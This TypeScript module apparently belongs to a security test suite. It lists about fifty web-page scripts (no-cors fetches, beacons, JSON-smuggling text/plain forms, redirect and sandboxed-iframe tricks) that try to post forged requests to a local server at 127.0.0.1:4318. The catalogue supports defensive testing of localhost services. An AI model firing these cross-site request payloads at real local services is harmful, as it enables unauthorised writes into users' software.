/**
 * What a web page can try against a server of this machine, as scripts that run in the page.
 * They are given `target` (`127.0.0.1:4318`), `path` (`/v1/logs`), `body` (an export request as
 * text) and `own` (the address of the page's own server). Whatever fails, fails quietly.
 */
export const attacks: Readonly<Record<string, string>> = {
  "fetch, JSON": fetchOf(`headers: { "content-type": "application/json" }`),
  "fetch, JSON, same-origin mode": fetchOf(
    `mode: "same-origin", headers: { "content-type": "application/json" }`,
  ),
  "fetch, protobuf": fetchOf(`headers: { "content-type": "application/x-protobuf" }`),
  "fetch without a type": fetchOf(`mode: "no-cors"`),
  "fetch no-cors, text": fetchOf(`mode: "no-cors", headers: { "content-type": "text/plain" }`),
  "fetch no-cors, JSON": fetchOf(
    `mode: "no-cors", headers: { "content-type": "application/json" }`,
  ),
  "fetch no-cors, text with JSON in it": fetchOf(
    `mode: "no-cors", headers: { "content-type": "text/plain;application/json" }`,
  ),
  "fetch no-cors, form": fetchOf(
    `mode: "no-cors", headers: { "content-type": "application/x-www-form-urlencoded" }`,
  ),
  "fetch no-cors, blob of JSON": fetchOf(
    `mode: "no-cors", body: new Blob([body], { type: "application/json" })`,
  ),
  "fetch no-cors, blob of protobuf": fetchOf(
    `mode: "no-cors", body: new Blob([body], { type: "application/x-protobuf" })`,
  ),
  "fetch no-cors, form data": fetchOf(
    `mode: "no-cors", body: (() => { const data = new FormData(); data.set("a", body); return data; })()`,
  ),
  "fetch with credentials": fetchOf(`mode: "no-cors", credentials: "include"`),
  "fetch that outlives the page": fetchOf(`mode: "no-cors", keepalive: true`),
  "fetch, no referrer": fetchOf(`mode: "no-cors", referrerPolicy: "no-referrer"`),
  "fetch, method override": fetchOf(
    `mode: "no-cors", headers: { "x-http-method-override": "POST" }`,
  ),
  "fetch GET": `fetch(url + "?body=" + encodeURIComponent(body), { mode: "no-cors" })`,
  "fetch over a redirect": `fetch(own + "/redirect/307/" + target + path, { method: "POST", mode: "no-cors", body })`,
  "fetch over a redirect, JSON": `fetch(own + "/redirect/308/" + target + path, { method: "POST", headers: { "content-type": "application/json" }, body })`,
  "XMLHttpRequest, text": xhrOf(""),
  "XMLHttpRequest, JSON": xhrOf(`request.setRequestHeader("content-type", "application/json");`),
  "beacon of text": `navigator.sendBeacon(url, body)`,
  "beacon of JSON": `navigator.sendBeacon(url, new Blob([body], { type: "application/json" }))`,
  "beacon of protobuf": `navigator.sendBeacon(url, new Blob([body], { type: "application/x-protobuf" }))`,
  "beacon of bytes": `navigator.sendBeacon(url, new TextEncoder().encode(body))`,
  "beacon of a form": `navigator.sendBeacon(url, new URLSearchParams({ body }))`,
  "form, plain text": formOf("text/plain", "POST"),
  "form, encoded": formOf("application/x-www-form-urlencoded", "POST"),
  "form, multipart": formOf("multipart/form-data", "POST"),
  "form, GET": formOf("text/plain", "GET"),
  "form over a redirect": formOf("text/plain", "POST").replace(
    "form.action = url",
    'form.action = own + "/redirect/307/" + target + path',
  ),
  "ping of a link": `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = url; document.body.append(a); a.click(); })()`,
  WebSocket: `(() => { const socket = new WebSocket("ws://" + target + path); socket.onopen = () => socket.send(body); })()`,
  "WebSocket of JSON": `new WebSocket("ws://" + target + path, ["application.json"])`,
  EventSource: `new EventSource(url + "?body=" + encodeURIComponent(body))`,
  image: elementOf("img", "src"),
  script: elementOf("script", "src"),
  frame: elementOf("iframe", "src"),
  object: elementOf("object", "data"),
  video: elementOf("video", "src"),
  "style sheet": `(() => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = url; document.head.append(link); })()`,
  prefetch: `(() => { const link = document.createElement("link"); link.rel = "prefetch"; link.href = url; document.head.append(link); })()`,
  module: `import(url)`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(url) + ", { method: 'POST', mode: 'no-cors', body: " + JSON.stringify(body) + " })"], { type: "text/javascript" })))`,
  "opaque frame, text": opaqueOf(`mode: "no-cors"`),
  "opaque frame, JSON": opaqueOf(`headers: { "content-type": "application/json" }`),
  "opaque frame, blob of JSON": opaqueOf(
    `mode: "no-cors", body: new Blob([body], { type: "application/json" })`,
  ),
  "frame of a data URL": `(() => { const frame = document.createElement("iframe"); frame.src = "data:text/html," + encodeURIComponent("<script>fetch(" + JSON.stringify(url) + ", { method: 'POST', mode: 'no-cors', body: " + JSON.stringify(body) + " })</" + "script>"); document.body.append(frame); })()`,
  "form in an opaque frame": `(() => { const frame = document.createElement("iframe"); frame.sandbox = "allow-scripts allow-forms"; frame.srcdoc = "<form method=post enctype=text/plain action='" + url + "'><input name='" + body.replaceAll("'", "&#39;").replace(/}$/, ',"a":"') + "' value='&quot;}'></form><script>document.forms[0].submit()</" + "script>"; document.body.append(frame); })()`,
  "a window": `window.open(url + "?body=" + encodeURIComponent(body))`,
  WebTransport: `new WebTransport("https://" + target + path)`,
};

function fetchOf(options: string): string {
  return `fetch(url, Object.assign({ method: "POST", body }, { ${options} }))`;
}

function xhrOf(header: string): string {
  return `(() => { const request = new XMLHttpRequest(); request.open("POST", url); ${header} request.send(body); })()`;
}

/** A form whose plain text is an export request: its one field is everything up to an equals sign. */
function formOf(type: string, method: "GET" | "POST"): string {
  return `(() => {
    const name = "frame" + Math.random();
    const frame = document.createElement("iframe");
    frame.name = name;
    const form = document.createElement("form");
    form.method = "${method}";
    form.enctype = "${type}";
    form.action = url;
    form.target = name;
    const input = document.createElement("input");
    input.name = body.replace(/}$/, ',"a":"');
    input.value = '"}';
    form.append(input);
    document.body.append(frame, form);
    form.submit();
  })()`;
}

function elementOf(tag: string, attribute: string): string {
  return `(() => { const element = document.createElement("${tag}"); element.${attribute} = url + "?body=" + encodeURIComponent(body); document.body.append(element); })()`;
}

function opaqueOf(options: string): string {
  return `(() => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.srcdoc = "<script>const body = " + JSON.stringify(body) + "; fetch(" + JSON.stringify(url) + ", Object.assign({ method: 'POST', body }, { ${options.replaceAll('"', '\\"')} }))</" + "script>";
    document.body.append(frame);
  })()`;
}
